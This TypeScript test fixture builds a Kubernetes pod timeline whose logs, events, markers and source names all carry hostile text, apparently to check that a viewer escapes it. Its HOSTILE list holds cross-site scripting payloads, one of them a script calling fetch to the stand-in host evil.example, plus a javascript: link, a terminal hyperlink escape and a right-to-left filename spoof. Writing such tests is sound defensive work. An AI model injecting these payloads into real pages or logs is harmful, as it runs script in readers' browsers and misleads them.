import { safeLine, safeText } from '../../src/text/safe-text.ts';
import type { SourceInfo } from '../../src/timeline/envelope.ts';
import { Timeline } from '../../src/timeline/timeline.ts';
import { containerStatus, termination } from './container-status.ts';
import { pod } from './pod.ts';

/** Texts that a pod could write to run something in a reader's browser, or to break out of markup. */
export const HOSTILE: readonly string[] = [
  '<script>window.pwned = 1; fetch("http://evil.example/")</script>',
  '"><img src=x onerror="window.pwned = 1">',
  "'><svg onload=window.pwned=1>",
  '</pre></title></style><script>window.pwned = 1</script>',
  '![x](http://evil.example/x.png) [click](javascript:window.pwned=1) @everyone',
  '| a | ``` | <b>bold</b> &lt;i&gt; |',
  '\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007 \u202egnp.exe \ufffe',
];

export const NOW = Date.parse('2026-11-22T15:10:00Z');

export const HOSTILE_SOURCE: SourceInfo = {
  kind: 'recording',
  name: safeLine(HOSTILE[1] as string),
  context: safeLine(HOSTILE[0] as string),
  serverVersion: 'v1.35.4',
  namespaces: null,
  selector: null,
};

/** A timeline of five minutes in which all that a pod, an event or a marker can say is hostile. */
export function hostileTimeline(): Timeline {
  const message = HOSTILE.map(safeText).join('\n');
  const start = NOW - 300_000;
  const timeline = new Timeline(start);
  const run = (attempt: number) => ({
    containerID: `containerd://${attempt}`,
    startedAt: start + attempt * 60_000,
    finishedAt: start + attempt * 60_000 + 4000,
    exitCode: 1,
    message,
  });
  for (let attempt = 0; attempt < 4; attempt++) {
    const at = start + attempt * 60_000 + 5000;
    const last = attempt === 0 ? null : termination(run(attempt - 1));
    const items = [
      pod({
        createdAt: start,
        containers: [
          containerStatus({
            restartCount: attempt,
            containerID: run(attempt).containerID,
            state: { type: 'terminated', ...termination(run(attempt)) },
            last,
          }),
        ],
      }),
    ];
    timeline.append({ type: 'snapshot', kind: 'Pod', namespace: null, items, more: false, at, line: 1 });
    timeline.append({
      ...{ type: 'log', namespace: 'shop', pod: 'api-1', uid: 'pod-1', container: 'api', containerID: run(attempt).containerID },
      ...{ text: `${message}\n`, truncated: false, error: '', at, line: 2 },
    });
  }
  const about = { kind: 'Pod', namespace: 'shop', name: 'api-1', uid: 'pod-1', container: 'api' };
  HOSTILE.forEach((text, i) => {
    timeline.append({
      ...{ type: 'object', verb: 'ADDED', at: NOW - 1000, line: 3 },
      object: {
        ...{ kind: 'Event', uid: `event-${i}`, namespace: 'shop', name: `event-${i}`, type: 'Warning', reason: safeLine(text) },
        ...{ message: safeLine(text), count: 1, firstAt: NOW - 2000, lastAt: NOW - 1000, involved: about },
        ...{ component: 'kubelet', host: 'node-a' },
      },
    });
    timeline.append({ type: 'marker', name: safeLine(text), note: safeLine(text), at: NOW - 1000, line: 4 });
  });
  timeline.close(NOW);
  return timeline;
}
